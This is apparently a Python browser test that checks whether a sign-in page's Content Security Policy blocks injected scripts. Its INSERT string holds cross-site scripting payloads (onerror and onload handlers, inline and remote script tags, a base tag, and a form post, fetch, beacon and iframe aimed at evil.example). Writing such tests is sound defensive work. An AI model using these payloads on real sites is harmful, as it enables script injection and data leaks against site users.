"""Run a script that has got into the page after all: inline, in an attribute, from elsewhere, by a form or a base.

Expected: the browser refuses to run or fetch any of it
Stopped by: CSP
Own: yes
Needs: a browser
"""

INSERT = """() => {
  const place = document.body.appendChild(document.createElement("div"));
  place.innerHTML = '<img src="x" onerror="alert(1)"><img src="http://evil.example/pixel.png"><svg onload="alert(2)"></svg>';
  const inline = document.createElement("script"); inline.textContent = "alert(3)"; place.append(inline);
  const far = document.createElement("script"); far.src = "http://evil.example/x.js"; place.append(far);
  const base = document.createElement("base"); base.href = "http://evil.example/"; document.head.append(base);
  const form = document.createElement("form"); form.action = "http://evil.example/"; form.method = "post"; place.append(form);
  form.submit();
  fetch("http://evil.example/").catch(() => {});
  navigator.sendBeacon("http://evil.example/");
  const frame = document.createElement("iframe"); frame.src = "http://evil.example/"; place.append(frame);
}"""


def control(world):
    page = world.page(None)
    page.set_content("<p>no policy</p>")
    page.evaluate(INSERT)
    page.wait_for_timeout(200)
    assert any(alarm in ("1", "3") for alarm in world.alarms)
    world.alarms.clear()


def attack(world):
    page = world.page("/sign-in")
    page.evaluate(INSERT)
    page.wait_for_timeout(300)
    assert [alarm for alarm in world.alarms if not alarm.startswith("http://evil.example")] == []
    assert page.url.startswith(world.site.url)
    answered = [request for request in page.context.pages if "evil" in request.url]
    assert answered == []
